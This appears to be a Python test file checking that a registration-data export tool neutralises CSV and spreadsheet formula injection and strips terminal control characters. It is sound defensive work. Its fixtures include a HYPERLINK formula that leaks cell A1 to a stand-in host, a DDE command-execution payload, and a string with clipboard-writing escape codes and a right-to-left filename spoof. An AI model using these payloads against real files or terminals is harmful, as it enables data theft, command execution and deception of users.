"""Values staff open in a spreadsheet or read in a terminal: formulas stay text, control
characters never reach a cell or a terminal, codes keep their leading zeros."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from pec_ingest import export
from pec_ingest.desk.attendance import attendance_xlsx
from pec_ingest.sheets import csv_safe, excel_text, printable

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "=cmd|' /C calc'!A0", "+1+2",
           "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def row(**values: Any) -> dict[str, Any]:
    base: dict[str, Any] = {c: None for c in export.COLUMNS}
    base.update(registration_number="PDZ2019-0001", late=False, status="complete", tavoli="poverta",
                received_at=datetime(2019, 9, 4, 9, 30, tzinfo=ZoneInfo("Europe/Rome")))
    base.update(values)
    return base


def test_formulas_are_text_in_xlsx() -> None:
    rows = [row(denominazione=v, referente=v, email=v, telefono=v) for v in HOSTILE]
    wb = load_workbook(io.BytesIO(export.to_xlsx(rows)))
    ws = wb["Tutti gli aderenti"]
    header = [c.value for c in ws[1]]
    for r, value in zip(ws.iter_rows(min_row=2), HOSTILE, strict=True):
        for column in ("Denominazione", "Referente", "E-mail", "Telefono"):
            cell = r[header.index(column)]
            assert cell.data_type == "s", (column, cell.value)
            assert cell.value == value.replace("\r", "")
    attendance = [{"registration_number": "PDZ2019-0001", "denominazione": v, "firma": None,
                   "legale_rappresentante": v, "contatto": v, "telefono": v, "email": v,
                   "pec": v, "comune": v, "preferenza": None} for v in HOSTILE]
    ws = load_workbook(io.BytesIO(attendance_xlsx({"poverta": attendance}))).active
    assert ws is not None
    assert all(c.data_type == "s" for r in ws.iter_rows(min_row=2) for c in r if c.value)


def test_formulas_neutralised_in_csv() -> None:
    rows = [row(denominazione=v, telefono=v) for v in HOSTILE]
    for excel in (False, True):
        table = list(csv.reader(io.StringIO(export.to_csv(rows, ";", excel=excel)[1:]),
                                delimiter=";"))
        name = table[0].index("Denominazione" if excel else "denominazione")
        phone = table[0].index("Telefono" if excel else "telefono")
        for line in table[1:]:
            assert line[name].startswith("'"), line[name]
            assert line[phone].startswith("'"), line[phone]
    assert csv_safe("-5") == "'-5" and csv_safe("Comunità") == "Comunità"


def test_excel_csv_italian_and_codes_as_text() -> None:
    rows = [row(codice_fiscale="06433040398", telefono="+39 02 9538464", late=True,
                natura_giuridica="impresa_sociale", status="needs_review",
                tavoli="famiglia;poverta")]
    table = list(csv.reader(io.StringIO(export.to_csv(rows, ";", excel=True)[1:]),
                            delimiter=";"))
    values = dict(zip(table[0], table[1], strict=True))
    assert values["Codice fiscale"] == '="06433040398"'
    assert values["Telefono"] == '="+39 02 9538464"'
    assert values["Ricevuta il"] == "04/09/2019 09:30"
    assert values["In ritardo"] == "sì"
    assert values["Natura giuridica"] == "Impresa sociale"
    assert values["Stato"] == "Dati da controllare"
    assert values["Tavoli"] == "Benessere familiare, Contrasto alla povertà"
    assert excel_text('1" & cmd') == '1" & cmd'  # only digit-like values are wrapped


def test_control_characters_never_reach_terminal_or_cells() -> None:
    nasty = "Ente\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202egnp.exe"
    assert "\x1b" not in printable(nasty) and "\u202e" not in printable(nasty)
    assert "\\x1b" in printable(nasty)
    text = export.to_table([row(denominazione=nasty)])
    assert "\x1b" not in text and "\x07" not in text
    ws = load_workbook(io.BytesIO(export.to_xlsx([row(denominazione=nasty)])))["Riepilogo"]
    wb = load_workbook(io.BytesIO(export.to_xlsx([row(denominazione=nasty)])))
    cells = [c.value for r in wb["Tutti gli aderenti"].iter_rows() for c in r]
    assert not any(isinstance(v, str) and "\x1b" in v for v in cells)
    assert ws.max_row > 1
